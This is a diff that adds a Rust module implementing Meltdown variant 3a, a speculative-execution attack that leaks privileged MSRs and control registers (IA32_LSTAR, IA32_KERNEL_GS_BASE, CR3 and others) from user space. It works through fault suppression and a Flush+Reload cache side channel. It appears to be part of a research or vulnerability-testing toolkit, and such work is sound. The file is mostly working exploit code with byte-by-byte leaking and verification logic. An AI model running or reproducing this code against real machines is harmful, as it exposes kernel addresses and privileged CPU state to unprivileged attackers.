@@ -0,0 +1,182 @@
+//! Meltdown variant 3a, rogue system register read. `rdmsr` and moves from
+//! control registers fault outside of ring 0, but on affected parts the
+//! value they read is forwarded to the instructions after them before the
+//! fault is raised, and leaks through the probe buffer like a byte of
+//! memory does.
+//!
+//! Only a few registers can be checked from user space. `IA32_TSC_AUX` is
+//! also readable through `rdtscp`, and as root `/dev/cpu/<core>/msr` reads
+//! any MSR, so leaks of those are verified against the real value.
+
+use std::fs::File;
+use std::io;
+use std::os::unix::fs::FileExt;
+
+use channel::Channel;
+use covert::CovertChannel;
+use reader::{allocate_probe_buf, ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+use suppress::{ExceptionSuppressor, Suppression};
+
+// transient reads voted on per byte, each decoded from TIMINGS_PER_GUESS
+// timings
+const ROUNDS: usize = 16;
+
+/// A register that faults when read outside of ring 0.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub enum SystemRegister {
+    /// A model specific register, by address.
+    Msr(u32),
+    Cr0,
+    Cr3,
+    Cr4,
+}
+
+/// The registers worth trying, by name.
+pub const REGISTERS: [(&'static str, SystemRegister); 9] = [
+    ("IA32_TSC_AUX", SystemRegister::Msr(0xc000_0103)),
+    ("IA32_SYSENTER_ESP", SystemRegister::Msr(0x175)),
+    ("IA32_SYSENTER_EIP", SystemRegister::Msr(0x176)),
+    ("IA32_LSTAR", SystemRegister::Msr(0xc000_0082)),
+    ("IA32_KERNEL_GS_BASE", SystemRegister::Msr(0xc000_0102)),
+    ("IA32_SPEC_CTRL", SystemRegister::Msr(0x48)),
+    ("CR0", SystemRegister::Cr0),
+    ("CR3", SystemRegister::Cr3),
+    ("CR4", SystemRegister::Cr4),
+];
+
+impl SystemRegister {
+    /// Looks up one of `REGISTERS` by name, ignoring case.
+    pub fn from_name(name: &str) -> Option<SystemRegister> {
+        REGISTERS
+            .iter()
+            .find(|&&(known, _)| known.eq_ignore_ascii_case(name))
+            .map(|&(_, register)| register)
+    }
+
+    // faults outside of ring 0
+    #[inline(always)]
+    unsafe fn read(self) -> u64 {
+        let value: u64;
+        match self {
+            SystemRegister::Msr(msr) => {
+                let low: u32;
+                let high: u32;
+                asm!("rdmsr" : "={eax}" (low), "={edx}" (high) : "{ecx}" (msr) :: "volatile");
+                value = (high as u64) << 32 | low as u64
+            }
+            SystemRegister::Cr0 => asm!("mov %cr0, $0" : "=r" (value) ::: "volatile"),
+            SystemRegister::Cr3 => asm!("mov %cr3, $0" : "=r" (value) ::: "volatile"),
+            SystemRegister::Cr4 => asm!("mov %cr4, $0" : "=r" (value) ::: "volatile"),
+        }
+        value
+    }
+
+    /// The register's value on `core`, read architecturally where user space
+    /// can: `IA32_TSC_AUX` through `rdtscp` on the calling thread, which has
+    /// to run on `core`, and other MSRs through the msr driver, which needs
+    /// root. None for control registers, or if neither works.
+    pub fn known_value(self, core: usize) -> Option<u64> {
+        match self {
+            SystemRegister::Msr(0xc000_0103) => {
+                let aux: u32;
+                unsafe {
+                    asm!("rdtscp" : "={ecx}" (aux) :: "eax", "edx" : "volatile");
+                }
+                Some(aux as u64)
+            }
+            SystemRegister::Msr(msr) => {
+                let file = File::open(format!("/dev/cpu/{}/msr", core)).ok()?;
+                let mut bytes = [0u8; 8];
+                match file.read_at(&mut bytes, msr as u64) {
+                    Ok(8) => Some(
+                        bytes
+                            .iter()
+                            .rev()
+                            .fold(0u64, |value, &byte| value << 8 | byte as u64),
+                    ),
+                    _ => None,
+                }
+            }
+            _ => None,
+        }
+    }
+}
+
+/// Reads system registers through a transient read and a Flush+Reload cache
+/// side channel.
+pub struct RegisterReader<S: ExceptionSuppressor = Suppression> {
+    suppressor: S,
+    receiver: Receiver,
+}
+
+impl RegisterReader {
+    /// Creates a reader using the best suppression strategy this CPU supports.
+    pub fn new() -> io::Result<RegisterReader> {
+        RegisterReader::with_suppressor(Suppression::detect())
+    }
+}
+
+impl<S: ExceptionSuppressor> RegisterReader<S> {
+    /// Allocates the probe buffer, prepares the given fault suppressor, and
+    /// calibrates the cache hit threshold.
+    pub fn with_suppressor(suppressor: S) -> io::Result<RegisterReader<S>> {
+        suppressor.install()?;
+        let channel = Channel::Page;
+        let probe_buf = allocate_probe_buf(&suppressor, channel, false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        Ok(RegisterReader {
+            suppressor,
+            receiver,
+        })
+    }
+
+    pub fn suppressor(&self) -> &S {
+        &self.suppressor
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// Leaks byte `byte` of `register`, 0 being the least significant, along
+    /// with how confident the guess is.
+    pub fn guess_byte(&self, register: SystemRegister, byte: u32) -> ByteGuess {
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+        let shift = 8 * byte;
+
+        let mut hit_counts = [0usize; 256];
+        for _ in 0..ROUNDS {
+            for _ in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    channel.prepare(1);
+                    {
+                        let channel = &channel;
+                        self.suppressor.suppress(#[inline(always)]
+                        || channel.encode(0, (register.read() >> shift) as u8));
+                    }
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks every byte of `register`, least significant first.
+    pub fn guess(&self, register: SystemRegister) -> [ByteGuess; 8] {
+        let mut result = [ByteGuess {
+            value: None,
+            hits: 0,
+            rounds: 0,
+        }; 8];
+        for (byte, guess) in result.iter_mut().enumerate() {
+            *guess = self.guess_byte(register, byte as u32)
+        }
+        result
+    }
+}